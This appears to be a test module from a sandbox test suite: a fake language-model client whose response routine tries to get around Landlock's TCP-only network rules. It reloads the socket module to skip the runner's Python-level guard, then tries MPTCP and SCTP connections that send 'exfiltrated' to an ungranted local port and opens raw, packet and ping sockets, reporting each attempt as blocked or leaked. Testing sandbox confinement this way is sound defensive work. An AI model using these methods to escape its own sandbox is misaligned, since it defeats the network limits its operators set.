"""Attack (network profile): reach the network around Landlock's TCP port rules.

Landlock's rules see TCP only. An MPTCP socket (protocol 262) falls back to plain TCP on
the wire but is not a TCP socket to Landlock; raw and packet sockets (root) sniff and
forge any traffic; SCTP and ping sockets are other transports. user_message: a port
that was NOT granted, with a listener on 127.0.0.1.
"""
import importlib
import socket

from llm_utils import LLMClient

# Past the runner's socket layer (which refuses these in Python first): straight to the kernel.
socket = importlib.reload(socket)

IPPROTO_MPTCP, IPPROTO_SCTP, SOCK_PACKET = 262, 132, 10


def _connect(kind, proto, port):
    with socket.socket(socket.AF_INET, kind, proto) as sock:
        sock.settimeout(5)
        sock.connect(("127.0.0.1", port))
        sock.sendall(b"exfiltrated")


def _open(family, kind, proto):
    socket.socket(family, kind, proto).close()


class OddSockets(LLMClient):
    def generate_response(self, system, user_message, max_tokens=4096, temperature=0.8):
        port = int(user_message)
        lines = []
        for what, action in (
            ("MPTCP connect to the ungranted port", lambda: _connect(socket.SOCK_STREAM, IPPROTO_MPTCP, port)),
            ("SCTP connect to the ungranted port", lambda: _connect(socket.SOCK_STREAM, IPPROTO_SCTP, port)),
            ("raw IPv4 socket", lambda: _open(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)),
            ("raw IPv6 socket", lambda: _open(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)),
            ("SOCK_PACKET socket", lambda: _open(socket.AF_INET, SOCK_PACKET, 0)),
            ("ICMP ping socket", lambda: _open(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)),
        ):
            try:
                action()
            except OSError as exc:
                lines.append(f"BLOCKED: {what}: {type(exc).__name__} {exc.errno} {exc.strerror}")
            else:
                lines.append(f"LEAKED: {what}: done")
        return "\n".join(lines)

    def count_tokens(self, text):
        return len(text.split())
